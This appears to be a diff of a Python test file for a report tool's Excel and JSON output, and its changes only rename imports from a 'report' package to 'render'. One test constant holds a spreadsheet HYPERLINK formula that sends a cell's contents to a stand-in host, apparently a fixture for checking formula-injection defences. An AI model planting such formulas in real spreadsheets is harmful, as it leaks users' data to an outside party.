@@ -16,8 +16,8 @@ import openpyxl
 import pytest
 
 from cxscore import Options, score
-from cxscore.report import excel
-from cxscore.report.cells import CELL_LIMIT
+from cxscore.render import excel
+from cxscore.render.cells import CELL_LIMIT
 from conftest import SAMPLE, invoke, run_process
 
 HYPERLINK = '=HYPERLINK("http://x.example/?d="&A1,"click")'
@@ -225,7 +225,7 @@ def test_sigterm_while_saving_leaves_no_temporary_file(tmp_path):
     script = (
         "import os, signal, sys, time\n"
         "from pathlib import Path\n"
-        "from cxscore.report.output import atomic_path\n"
+        "from cxscore.render.output import atomic_path\n"
         "with atomic_path(Path(sys.argv[1])) as temporary:\n"
         "    temporary.write_bytes(b'half a workbook')\n"
         "    os.kill(os.getpid(), signal.SIGTERM)\n"
@@ -270,7 +270,7 @@ def test_many_values_found_only_by_reading_are_warned_once_on_stderr_and_in_json
 
 
 def test_compact_json_is_streamed_in_pieces_with_the_same_bytes():
-    from cxscore.report import json_doc
+    from cxscore.render import json_doc
 
     report = score([str(SAMPLE)], options=Options(by=["Channel"], period="month", distribution=True, benchmark="retail"))
     writes: list[str] = []
